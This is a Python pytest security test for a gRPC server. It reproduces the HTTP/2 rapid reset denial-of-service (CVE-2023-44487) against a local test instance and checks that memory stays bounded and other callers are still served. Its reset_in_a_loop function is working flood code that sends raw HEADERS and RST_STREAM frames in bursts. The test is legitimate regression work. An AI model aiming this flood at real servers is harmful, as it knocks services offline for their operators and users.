"""HTTP/2 rapid reset (CVE-2023-44487): a client that resets every call as soon as it
opens it, in a loop, so that it never has a call open by its own count while the
server starts and ends each one.

grpc sets no MAX_CONCURRENT_STREAMS by default. Before, two such connections for six
seconds took the server from 73 MiB to 1.3 GB and no other caller was answered within
5 s: calls came faster than the event loop could start and end them, and each waited
in the backlog. Now a connection holds at most ``--max-streams-per-connection`` calls
that the server has not ended (api/grpc_server.py).
"""

from __future__ import annotations

import asyncio
import socket
import statistics
import struct
import threading
import time
from pathlib import Path

import grpc
import pytest
from hpack import Encoder

from keyturn.v1 import admin_pb2, admin_pb2_grpc
from tests.harness import Harness
from tests.process import ServerProcess
from tests.security.raw_h2 import RawConnection

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS = 0x1, 0x3, 0x4
END_HEADERS = 0x4
CANCEL = 0x8
SECONDS = 6.0


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    header = struct.pack(">I", len(payload))[1:] + bytes([kind, flags])
    return header + struct.pack(">I", stream) + payload


def reset_in_a_loop(port: int, stop: threading.Event) -> int:
    """HEADERS then RST_STREAM(CANCEL), a hundred calls per write, until ``stop``: the
    calls sent. The server's answers are read and dropped."""
    block = Encoder().encode(
        [
            (":method", "POST"),
            (":scheme", "http"),
            (":path", "/keyturn.v1.HandleService/ValidateHandle"),
            (":authority", "keyturn"),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
        ]
    )
    sent, stream = 0, 1
    with socket.create_connection(("127.0.0.1", port)) as sock:
        threading.Thread(target=_drop_answers, args=(sock,), daemon=True).start()
        sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
        while not stop.is_set():
            burst = []
            for _ in range(100):
                burst.append(frame(HEADERS, END_HEADERS, stream, block))
                burst.append(frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)))
                stream += 2
            try:
                sock.sendall(b"".join(burst))
            except OSError:
                break  # closed by the server: as good an answer as any
            sent += 100
    return sent


def _drop_answers(sock: socket.socket) -> None:
    try:
        while sock.recv(1 << 20):
            pass
    except OSError:
        pass


def _rss_mib(pid: int) -> float:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) / 1024
    raise AssertionError("no VmRSS")


@pytest.mark.slow
async def test_calls_reset_as_fast_as_they_open_leave_memory_bounded_and_others_served(
    tmp_path: Path,
) -> None:
    server = ServerProcess(tmp_path / "data", "--http-listen", "off")
    await server.start()
    stop = threading.Event()
    sent: list[int] = []
    attackers = [
        threading.Thread(target=lambda: sent.append(reset_in_a_loop(server.port, stop)))
        for _ in range(2)
    ]
    try:
        before = _rss_mib(server.pid)
        for attacker in attackers:
            attacker.start()
        took: list[float] = []
        failed: dict[str, int] = {}
        async with grpc.aio.insecure_channel(server.address) as channel:
            admin = admin_pb2_grpc.AdminServiceStub(channel)
            owner = (("authorization", f"Bearer {server.token()}"),)
            until = time.monotonic() + SECONDS
            while time.monotonic() < until:
                started = time.perf_counter()
                try:
                    await admin.GetHealth(admin_pb2.GetHealthRequest(), metadata=owner, timeout=5)
                    took.append(time.perf_counter() - started)
                except grpc.aio.AioRpcError as error:
                    failed[error.code().name] = failed.get(error.code().name, 0) + 1
                await asyncio.sleep(0.05)
        peak = _rss_mib(server.pid)
    finally:
        stop.set()
        for attacker in attackers:
            attacker.join(10)
        alive = server.process is not None and server.process.poll() is None
        server.terminate()
    p50 = statistics.median(took) * 1000 if took else float("inf")
    print(
        f"rapid reset: {sum(sent):,} calls opened and reset over 2 connections in "
        f"{SECONDS:.0f} s; RSS {before:.0f} -> {peak:.0f} MiB; another caller "
        f"{len(took)} answered (p50 {p50:.0f} ms), failed {failed}"
    )
    assert alive
    assert peak - before < 200, (before, peak)
    # Served, not unscathed: a call can still wait out its deadline behind a burst the
    # core is working through (one in seven did on a loaded CI machine); before, none
    # was answered at all.
    assert len(took) >= 3 * sum(failed.values()) and p50 < 500, (len(took), failed, p50)


async def test_a_connection_may_hold_at_most_its_cap_of_open_calls(server: Harness) -> None:
    await server.restart(max_streams_per_connection=5)
    async with RawConnection(server.address) as raw:
        await raw.settled()
        assert raw.h2.remote_settings.max_concurrent_streams == 5
